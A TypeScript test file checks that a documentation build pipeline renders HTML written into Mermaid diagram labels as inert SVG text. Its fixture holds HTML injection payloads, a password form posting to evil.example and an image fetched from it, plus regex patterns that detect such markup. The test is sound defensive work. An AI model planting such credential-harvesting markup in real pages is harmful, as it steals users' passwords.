/**
 * A label written as HTML must never become HTML on the page: Chromium draws
 * labels as SVG text (theme/shared/mermaid-config.ts), and the page embeds the
 * drawing as the SVG schema keeps it (pipeline/stages/svg-sanitize.ts). Drawn
 * here by the real io edge, then built into a page by the pure pipeline.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { DiagramDrawer, diagramChromiumPath } from '../../pipeline/io/mermaid.ts';
import { analyse, generate } from '../../pipeline/build.ts';
import { contentHash } from '../../pipeline/content-hash.ts';
import { configText, effects, tree } from '../helpers.ts';
import { skip } from '../skip.ts';

const test = suite('build: mermaid labels written as HTML');

const source = [
  'flowchart LR',
  '  A["<form action=\'https://evil.example/s\'><input type=\'password\'><button>OK</button></form>"] --> B',
  '  C["<img id=\'ontwikkelaarsportaal\' src=\'https://evil.example/x.png\'>"] --> D["regel een<br>regel twee"]',
].join('\n');

test('Chromium draws a label written as HTML as SVG text, and the page holds no form control, image or foreign id', async () => {
  if (!fs.existsSync(diagramChromiumPath)) return skip(`no Chromium at ${diagramChromiumPath} (apt-get install chromium-headless-shell)`);
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mermaid-labels-test-'));
  try {
    const hash = contentHash(source, 16);
    const diagrams = await new DiagramDrawer(path.join(dir, 'mermaid')).finish(new Map([[hash, source]]));
    const drawn = diagrams?.get(hash);
    assert.ok(drawn && 'svg' in drawn, JSON.stringify(drawn));
    assert.not.match(drawn.svg, /<foreignObject|<input|<form|<button|<img/, 'labels are SVG text');
    assert.match(drawn.svg, /<tspan[^>]*>regel<\/tspan>/, 'the line break splits the label into lines');

    const files = { 'kennisbank/diagram.md': `---\ntitle: Diagram\n---\n\n\`\`\`mermaid\n${source}\n\`\`\`\n` };
    const generated = generate(analyse(tree(files, configText), 'production'), { ...effects, diagrams }, { render: true });
    assert.equal(generated.problems.map((p) => [p.code, p.line]), [['mermaid-html-label', 7], ['mermaid-html-label', 8]]);
    const page = String(generated.files.find((f) => f.path === 'kennisbank/diagram/index.html')?.data ?? '');
    const figure = /<figure class="mermaid-diagram"[^>]*>([\s\S]*?)<\/figure>/.exec(page)?.[1] ?? '';
    assert.match(figure, new RegExp(`^<svg id="mermaid-${hash}"`));
    assert.not.match(figure, /<(?:form|input|button|img|foreignObject)\b|\son[a-z]+=|id="ontwikkelaarsportaal"/i);
    assert.not.match(page, /<input[^>]*type="password"/);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test.run();
